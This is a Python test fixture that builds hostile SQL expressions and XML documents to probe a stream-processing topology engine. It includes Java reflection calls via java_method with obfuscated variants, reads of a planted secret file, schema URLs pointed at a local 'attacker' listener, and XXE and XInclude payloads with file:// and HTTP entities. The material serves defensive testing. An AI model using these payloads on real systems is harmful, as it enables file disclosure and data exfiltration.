"""Expressions that try to read a file of the machine, to send a request or to run code."""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

SCHEMA = """<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:include schemaLocation="{url}/included"/><xs:element name="a" type="xs:string"/>
</xs:schema>"""


@dataclass
class Listener:
    """A real HTTP server of an attacker, and what was sent to it."""

    url: str
    #: a file whose content must not leave, and a schema that refers to the server
    secret: Path
    schema: Path
    received: list[str] = field(default_factory=list)


@contextlib.contextmanager
def listening(folder: Path) -> Iterator[Listener]:
    """Run a server that accepts every request."""
    received: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            received.append(self.path)
            body = b'<!ENTITY all "x">'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Print nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        found = Listener(
            f"http://127.0.0.1:{server.server_port}",
            folder / "secret.key",
            folder / "own.xsd",
            received,
        )
        found.secret.write_text("s3cret\n", "utf-8")
        found.schema.write_text(SCHEMA.format(url=found.url), "utf-8")
        yield found
        server.shutdown()


def _json_schema(default: str) -> str:
    """A schema as JSON, in which the default of a field is another expression."""
    metadata = f'{{"EXISTS_DEFAULT":"{default}"}}'
    kind = '"type":"string","nullable":true'
    return f'{{"type":"struct","fields":[{{"name":"a",{kind},"metadata":{metadata}}}]}}'


def expressions(to: Listener) -> dict[str, str]:
    """Expressions of type STRING that would tell something, by what they try."""
    called = f"java_method('java.lang.System', 'setProperty', 'owned', '{to.url}')"
    default = _json_schema("version()")
    running = _json_schema("java_method(\\\\'java.lang.System\\\\', \\\\'lineSeparator\\\\')")
    found = {
        "a method": called,
        "a qualified name": f"system.builtin.{called}",
        "a clause": f"IDENTIFIER('java_method'){called.removeprefix('java_method')}",
        "a clause of parts": f"IDENTIFIER('java_' || 'method'){called[11:]}",
        "a default": f"from_json('{{}}', '{default}').a",
        "a default that is code": f"from_json('{{}}', '{running}').a",
        "a default from parts": f"from_json('{{}}', concat('', '{default}')).a",
        "a default of XML": f"to_json(from_xml('<p/>', '{default}'))",
        "a default of a variant": f"to_json(variant_get(parse_json('1'), '$', '{default}'))",
        "a variable": "system.session.secret",
        "a parameter": ":secret",
        "a subquery": f"(SELECT max(value) FROM text.`{to.secret}`)",
        "a table of files": f"(SELECT * FROM read_files('{to.secret}'))",
        "a user": "current_user",
        "a descriptor": f"to_json(from_protobuf(cast(value AS BINARY), 'A', '{to.secret}'))",
    }
    for place in (to.url, f"file://{to.secret}", str(to.schema)):
        options = f"map('rowValidationXSDPath', '{place}')"
        name = place.split(":", maxsplit=1)[0][-4:]
        found |= {
            f"XSD {name}": f"to_json(from_xml(value, 'a STRING', {options}))",
            f"XSD {name}, case": f"to_json(FROM_XML(value, 'a STRING', {options.lower()}))",
            f"XSD {name}, clause": (
                f"to_json(IDENTIFIER('from_xml')(value, 'a STRING', {options}))"
            ),
            f"XSD {name}, alias": f"to_json(`from_xml`(value, 'a STRING', {options}) AS `x`)",
            f"XSD {name}, lambda": (
                "transform(array(value), from_xml -> "
                f"to_json(from_xml(from_xml, 'a STRING', {options})))[0]"
            ),
            f"XSD {name}, hidden": (
                "to_json(from_xml(value, 'a STRING', "
                f"map(concat('rowValidation', 'XSDPath'), '{place}')))"
            ),
            f"XSD {name}, schema": f"schema_of_xml('<a/>', {options})",
            f"Avro {name}": (
                f"to_json(from_avro(cast(value AS BINARY), '\"int\"', "
                f"map('avroSchemaUrl', '{place}')))"
            ),
        }
    return found


def documents(to: Listener) -> list[str]:
    """XML texts that refer to a file or a server."""
    places = (to.url, f"file://{to.secret}")
    return [
        text
        for place in places
        for text in (
            f'<!DOCTYPE a SYSTEM "{place}/dtd"><a>&all;</a>',
            f'<!DOCTYPE a [<!ENTITY all SYSTEM "{place}">]><a>&all;</a>',
            f'<!DOCTYPE a [<!ENTITY % all SYSTEM "{place}">%all;]><a>x</a>',
            '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:noNamespaceSchemaLocation="{place}">x</a>',
            f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{place}"/></a>',
            f'<?xml-stylesheet type="text/xsl" href="{place}"?><a>x</a>',
        )
    ]


#: expressions of type STRING over XML in `value`
XML = (
    "xpath_string(value, '/a')",
    "concat_ws(',', xpath(value, '//text()'))",
    "to_json(from_xml(value, 'a STRING, _VALUE STRING'))",
)


def document(expression: str) -> dict[str, object]:
    """A topology that computes values by an expression."""
    text = {"format": "string"}
    return {
        "format": "millrace.topology/1",
        "name": "hostile",
        "nodes": [
            {
                "id": "in",
                "kind": "source.stream",
                "params": {"topics": ["in"], "key": text, "value": text},
            },
            {"id": "step", "kind": "map_values", "params": {"value": expression}},
            {"id": "out", "kind": "sink.topic", "params": {"topic": "out"}},
        ],
        "edges": [{"source": "in", "target": "step"}, {"source": "step", "target": "out"}],
    }
